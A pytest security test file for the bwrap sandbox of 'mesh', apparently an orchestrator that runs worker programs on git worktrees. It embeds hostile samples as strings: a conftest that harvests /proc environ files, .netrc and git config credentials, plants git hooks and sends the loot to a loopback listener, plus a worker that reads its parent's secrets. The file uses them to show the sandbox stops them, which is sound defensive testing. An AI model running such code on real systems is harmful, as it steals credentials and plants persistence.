"""Issue 9, attacks 1, 3 and 12, tried for real against bwrap: hostile code that validation runs,
untracked files a worker leaves behind, and a command worker that goes looking for mesh's keys.

"mesh" is always a separate process started with the canary secrets in its environment, as a
real mesh is: /proc/<pid>/environ shows the environment a process was started with, so only
such a process is a realistic target. Each attack also runs once without the sandbox, where
it must succeed: that proves the probe works and the sandbox is what stops it.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shlex
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import uuid
from pathlib import Path

import pytest

from tests.runkit import TASK, demo_script, make_workspace

PY = sys.executable
MESH = str(Path(sys.executable).parent / "mesh")
CANARY_API = "sk-ant-canary-" + "A1b2C3d4E5f6G7h8"
CANARY_SIGNING = "mesh-signing-canary-" + "Z9y8X7w6V5u4"
CANARY_GIT = "ghp_" + "GitCanary0123456789abcdefGHIJKLMNOPqr"


def leaked_forms(text: str) -> list[str]:
    """Which canaries ``text`` holds, raw or in a form chosen to slip past a scrubber."""
    found = []
    for canary in (CANARY_API, CANARY_SIGNING, CANARY_GIT):
        forms = (canary, canary[::-1], "-".join(canary), base64.b64encode(canary.encode()).decode(),
                 canary.encode().hex())
        if any(form in text for form in forms):
            found.append(canary)
    return found


class Listener:
    """A loopback TCP server that records every connection and every byte sent to it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while chunk := conn.recv(65536):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data)

    def close(self) -> list[bytes]:
        self.stop.set()
        self.thread.join(5)
        self.server.close()
        return self.received


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def mesh_env(home: Path, **extra: str) -> dict[str, str]:
    """The environment of the mesh process under attack: its secrets included."""
    return {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8", "ANTHROPIC_API_KEY": CANARY_API,
            "MESH_SIGNING_KEY": CANARY_SIGNING, **extra}


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, check=True).stdout


def snapshot(directory: Path) -> dict[str, str]:
    """Every file under ``directory`` with a digest of its content."""
    return {str(p.relative_to(directory)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(directory.rglob("*")) if p.is_file()}


@pytest.fixture
def checkout(tmp_path):
    """A repository whose task worktree lives inside its .git, where mesh used to put it."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "user.email", "t@t")
    git(repo, "config", "user.name", "t")
    # A credential in the repository's own config: what a patch would love to read.
    git(repo, "config", "remote.origin.url", f"https://user:{CANARY_GIT}@example.invalid/x.git")
    (repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (repo / "test_calc.py").write_text("from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    worktree = repo / ".git" / "mesh-worktrees" / "t-1"
    git(repo, "worktree", "add", "-q", "-b", "mesh/t-1", str(worktree))
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text(f"machine example.invalid login u password {CANARY_GIT}\n")
    return repo, worktree, home


def commit(worktree: Path, message: str = "patch") -> None:
    git(worktree, "add", "-A")
    git(worktree, "commit", "-q", "-m", message)


def validate_as_mesh(worktree: Path, command: str, home: Path, sandbox: str) -> list[dict]:
    """Run ``command`` as validation from a separate "mesh" process holding the canaries."""
    script = textwrap.dedent(f"""
        import json
        from orchestrator.sandbox.validation import run_validation
        results = run_validation([{command!r}], cwd={str(worktree)!r}, allow=[{command!r}], timeout_s=120,
                                 sandbox={sandbox!r})
        print(json.dumps([r.to_dict() for r in results]))
    """)
    done = subprocess.run([PY, "-c", script], env=mesh_env(home, PYTHONPATH=str(Path(__file__).parents[1])),
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


HOSTILE_CONFTEST = """
import glob, os, socket, sys
loot = []
for path in glob.glob('/proc/*/environ'):
    try:
        loot.append(open(path, 'rb').read().decode('utf-8', 'replace'))
    except OSError:
        pass
for path in [os.path.expanduser('~/.netrc'), {home_netrc!r}, {git_config!r}, '../../config', '../../../.git/config']:
    try:
        loot.append(open(path).read())
    except OSError:
        pass
blob = '\\n'.join(loot)
# Planted hooks would run on the user's next commit.
for hook in [{hook!r}, '../../hooks/post-checkout']:
    try:
        os.makedirs(os.path.dirname(hook), exist_ok=True)
        with open(hook, 'w') as handle:
            handle.write('#!/bin/sh\\necho pwned\\n')
        os.chmod(hook, 0o755)
    except OSError:
        pass
try:
    with open({drop!r}, 'w') as handle:
        handle.write(blob)
except OSError:
    pass
try:
    with socket.create_connection(('127.0.0.1', {port}), timeout=3) as conn:
        conn.sendall(blob.encode())
except OSError:
    pass
# Spelled out with dashes, past any scrubber that only knows the raw value.
print('-'.join(blob))
"""


def test_attack1_hostile_conftest_reads_and_plants_nothing(checkout, listener, tmp_path):
    repo, worktree, home = checkout
    drop = f"/tmp/mesh-attack-drop-{uuid.uuid4().hex}"
    hook = str(repo / ".git" / "hooks" / "post-checkout")
    (worktree / "conftest.py").write_text(HOSTILE_CONFTEST.format(
        home_netrc=str(home / ".netrc"), git_config=str(repo / ".git" / "config"), hook=hook, drop=drop,
        port=listener.port))
    commit(worktree)
    before = snapshot(repo / ".git")
    command = f"{shlex.quote(PY)} -m pytest -q -p no:cacheprovider"

    [result] = validate_as_mesh(worktree, command, home, "bwrap")
    assert result["passed"], result  # the suite itself still ran
    assert listener.received == []
    assert leaked_forms(result["stdout_tail"] + result["stderr_tail"]) == []
    assert not os.path.exists(drop)
    assert snapshot(repo / ".git") == before
    assert not os.path.exists(hook)

    # Without the sandbox the same conftest gets everything: the probe above is a real one.
    [unsandboxed] = validate_as_mesh(worktree, command, home, "none")
    assert unsandboxed["passed"]
    assert leaked_forms(b"".join(listener.received).decode("utf-8", "replace"))
    assert os.path.exists(hook)
    os.remove(drop)


def test_attack3_untracked_files_left_in_the_worktree_do_not_run(checkout, tmp_path):
    repo, worktree, home = checkout
    (worktree / "sitecustomize.py").write_text("print('SITECUSTOMIZE RAN')\n")
    (worktree / "conftest.py").write_text("print('CONFTEST RAN')\n")
    (worktree / "test_planted.py").write_text("def test_planted():\n    assert False, 'PLANTED TEST RAN'\n")
    assert "conftest.py" in git(worktree, "status", "--porcelain", "--untracked-files=all")
    command = f"{shlex.quote(PY)} -m pytest -q -p no:cacheprovider -s"

    [result] = validate_as_mesh(worktree, command, home, "bwrap")
    output = result["stdout_tail"] + result["stderr_tail"]
    assert result["passed"], output
    assert "1 passed" in output
    assert "CONFTEST RAN" not in output and "PLANTED TEST RAN" not in output and "SITECUSTOMIZE" not in output

    [unsandboxed] = validate_as_mesh(worktree, command, home, "none")
    assert not unsandboxed["passed"] and "CONFTEST RAN" in unsandboxed["stdout_tail"]


def test_attack2_a_patch_adding_a_unittest_package_is_refused_before_validation(checkout):
    """Validation runs ``python -m unittest test_x`` as a developer's shell does (the current
    folder first on sys.path), so the defence against a tree shadowing the test runner is the
    patch policy: a patch adding ``unittest/`` never reaches a commit, let alone validation."""
    from orchestrator.worktree.gitops import GitError, Worktree

    repo, worktree, home = checkout
    patch = ("diff --git a/unittest/__init__.py b/unittest/__init__.py\nnew file mode 100644\n--- /dev/null\n"
             "+++ b/unittest/__init__.py\n@@ -0,0 +1 @@\n+print('FAKE UNITTEST')\n")
    task = Worktree.prepare(repo, "shadow-1", protected=("main", "master"), base="HEAD")
    with pytest.raises(GitError) as refused:
        task.apply(patch)
    assert refused.value.reason == "policy_violation" and "unittest/__init__.py shadows" in str(refused.value)
    assert not (task.path / "unittest").exists()


@pytest.mark.parametrize("sandbox", ["bwrap", "none"])
def test_python_m_unittest_names_a_test_module_of_the_tree(checkout, sandbox):
    repo, worktree, home = checkout
    (worktree / "test_calc.py").write_text("import unittest\n\n\nclass T(unittest.TestCase):\n"
                                          "    def test_bug(self):\n        self.fail('the bug')\n")
    commit(worktree)
    command = f"{shlex.quote(PY)} -m unittest test_calc"
    [result] = validate_as_mesh(worktree, command, home, sandbox)
    assert not result["passed"] and "the bug" in result["stderr_tail"]
    assert "No module named" not in result["stderr_tail"]


WORKER = """
import glob, json, os, sys
sys.stdin.read()
loot = {}
for path in ['/proc/%d/environ' % os.getppid(), '/proc/1/environ'] + glob.glob('/proc/*/environ'):
    try:
        loot[path] = open(path, 'rb').read().decode('utf-8', 'replace')
    except OSError as exc:
        loot[path] = 'unreadable: %s' % exc
loot['own'] = dict(os.environ)
with open(os.path.join(os.environ['HOME'], 'loot.json'), 'a') as handle:
    handle.write(json.dumps(loot) + '\\n')
print('not an artifact')
"""


def run_mesh_with_worker(tmp_path: Path, sandbox: str) -> tuple[subprocess.CompletedProcess, str]:
    ws = make_workspace(tmp_path / sandbox)
    home = tmp_path / sandbox / "home"
    home.mkdir()
    worker = tmp_path / sandbox / "worker.py"
    worker.write_text(WORKER)
    config = tmp_path / sandbox / "mesh.toml"
    config.write_text(f'consensus_retries = 0\n[validation]\nsandbox = "{sandbox}"\n'
                      'allow = ["python3 -m unittest discover -s tests -t ."]\n')
    done = subprocess.run(
        [MESH, "--db", str(ws.db), "--actor", "t", "run", "--label", "plan:demo", "--backend", "command",
         "--worker-cmd", f"{shlex.quote(PY)} {shlex.quote(str(worker))}", "--repo", str(ws.repo),
         "--config", str(config), "--json"],
        env=mesh_env(home), capture_output=True, text=True, timeout=300)
    # The worker wrote into its private HOME (kept under the cache folder of mesh's HOME, per
    # repository, task and program).
    # Unsandboxed, it wrote into the real one.
    found = sorted((home / ".cache" / "mesh-worker-homes").glob("*/*/*/*/loot.json")) + sorted(home.glob("loot.json"))
    return done, "".join(path.read_text() for path in found)


def test_attack12_a_command_worker_cannot_read_mesh_secrets(tmp_path):
    done, loot = run_mesh_with_worker(tmp_path, "bwrap")
    assert loot, done.stderr  # the worker was called
    assert leaked_forms(loot) == []
    calls = [json.loads(line) for line in loot.splitlines()]
    # Besides the call's own variables, the way out through mesh's egress proxy (no secret in it).
    proxy = {"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"}
    assert all(set(call["own"]) <= {"PATH", "HOME", "LANG", "MESH_ROLE", "MESH_ROUND", "MESH_TASK_ID",
                                    "MESH_RUN_ID", "MESH_ATTEMPT", "MESH_WORKER", "PWD", *proxy} for call in calls)
    assert leaked_forms(done.stdout + done.stderr) == []

    _, unsandboxed = run_mesh_with_worker(tmp_path, "none")
    # Even with a minimal environment of its own, an unsandboxed worker reads its parent's.
    assert CANARY_API in unsandboxed


def test_without_bwrap_mesh_run_refuses_before_any_worker_call(tmp_path):
    ws = make_workspace(tmp_path)
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    res = ws.mesh("run", "--label", "plan:demo", "--backend", "replay", "--script", str(ws.write_script(demo_script())),
                  "--repo", str(ws.repo), env={"PATH": str(empty)})
    assert res.exit_code == 2
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and "bubblewrap" in lines[0] and 'validation.sandbox = "none"' in lines[0]
    assert ws.kinds() == []
    with ws.tracker() as t:
        assert t.get(TASK)["status"] == "open"


def test_a_broken_bwrap_makes_mesh_run_refuse_too(tmp_path):
    ws = make_workspace(tmp_path)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    res = ws.mesh("run", "--label", "plan:demo", "--backend", "replay", "--script", str(ws.write_script(demo_script())),
                  "--repo", str(ws.repo), "--json", env={"PATH": f"{bin_dir}:{os.environ['PATH']}"})
    assert res.exit_code == 2
    error = json.loads(res.stderr)
    assert error["code"] == 2 and "namespaces" in error["error"] and "\n" not in error["error"]
    assert ws.kinds() == []


def test_opting_out_runs_without_bwrap_and_says_so(tmp_path):
    ws = make_workspace(tmp_path)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "git").symlink_to(shutil.which("git"))
    (bin_dir / "python3").symlink_to(sys.executable)
    config = tmp_path / "mesh.toml"
    config.write_text('[validation]\nsandbox = "none"\nallow = ["python3 -m unittest discover -s tests -t ."]\n')
    code, report, res = ws.run(demo_script(), "--config", str(config), env={"PATH": str(bin_dir)})
    assert code == 0, res.output
    assert report["outcome"] == "closed" and report["preflight"].endswith(" sandbox=none")
    [preflight] = [cp for cp in ws.checkpoints() if cp.kind == "preflight"]
    assert preflight.payload["artifact"]["sandbox"] == "none"


def test_the_preflight_records_the_sandbox_that_ran(tmp_path):
    ws = make_workspace(tmp_path)
    code, report, res = ws.run(demo_script())
    assert code == 0, res.output
    assert report["preflight"].endswith(" sandbox=bwrap")
    [preflight] = [cp for cp in ws.checkpoints() if cp.kind == "preflight"]
    assert preflight.payload["artifact"]["sandbox"] == "bwrap"


def test_a_command_worker_cannot_write_into_the_worktrees_under_its_home(tmp_path):
    """The worktrees live in the cache folder inside HOME; even a worker given the real HOME
    (``worker_home = "real"``) cannot write there."""
    import subprocess as sp

    from orchestrator.sandbox.bwrap import require_bwrap
    from orchestrator.sandbox.worker_sandbox import worker_launcher

    home = tmp_path / "home"
    worktrees = home / ".cache" / "mesh"
    (worktrees / "worktrees" / "other-task").mkdir(parents=True)
    launch = worker_launcher(require_bwrap(), home="real", shielded=[worktrees], private_root=tmp_path / "p")
    script = ("echo ok > \"$HOME/note\"; "
              "echo evil > \"$HOME/.cache/mesh/worktrees/other-task/.git\" 2>/dev/null || echo refused")
    argv, env = launch(["/bin/sh", "-c", script], {"HOME": str(home), "PATH": "/usr/bin:/bin"}, None)
    out = sp.run(argv, env=env, capture_output=True, text=True, timeout=60)
    assert "refused" in out.stdout, out.stderr
    assert (home / "note").read_text() == "ok\n"
    assert not (worktrees / "worktrees" / "other-task" / ".git").exists()
